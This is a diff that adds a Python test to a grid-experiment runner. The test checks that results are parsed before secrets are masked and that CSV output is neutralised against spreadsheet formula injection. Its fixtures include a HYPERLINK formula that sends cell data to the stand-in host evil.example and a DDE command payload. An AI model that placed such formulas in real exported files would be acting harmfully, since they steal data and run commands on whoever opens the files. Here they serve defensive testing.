@@ -473,3 +473,22 @@ def test_literal_credentials_in_other_command_forms_are_masked():
     shown = " ".join(_public_command(command))
     assert not any(secret in shown for secret in ("s3cretA", "s3cretB", "s3cretC")), shown
     assert "--seed 1" in shown and "--password ***" in shown
+
+
+def test_a_result_whose_text_looks_like_a_query_is_read_and_results_csv_is_spreadsheet_safe(tmp_path):
+    """Found by an independent probe: stdout was masked before its result line was read, so a text holding
+    ``?x=\\"`` lost its closing quote and the unit failed with "no result"; and results.csv wrote a parameter or a
+    printed text that starts with "=" as a formula."""
+    result = {"score": 1.5, "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+              "link": "https://h.example/v1?sig=Sg7sig7sig7s"}
+    spec = command_spec(tmp_path, command=[sys.executable, "-c", f"import json; print(json.dumps({result!r}))"],
+                        grid={"x": ["=cmd|' /C calc'!A0", "plain"]}, retries=0)
+    outcome = grid.run_grid(spec)
+    assert not outcome.failed, outcome.failed
+    assert set(outcome.table["score"]) == {1.5}
+    assert all("sig=***" in link for link in outcome.table["link"])  # the result is masked after it is read
+    written = (tmp_path / "out" / "results.csv").read_text()
+    assert "Sg7sig7sig7s" not in written
+    cells = [cell for line in written.splitlines()[1:] for cell in next(__import__("csv").reader([line]))]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
+    assert "'=cmd|' /C calc'!A0" in cells and "plain" in cells
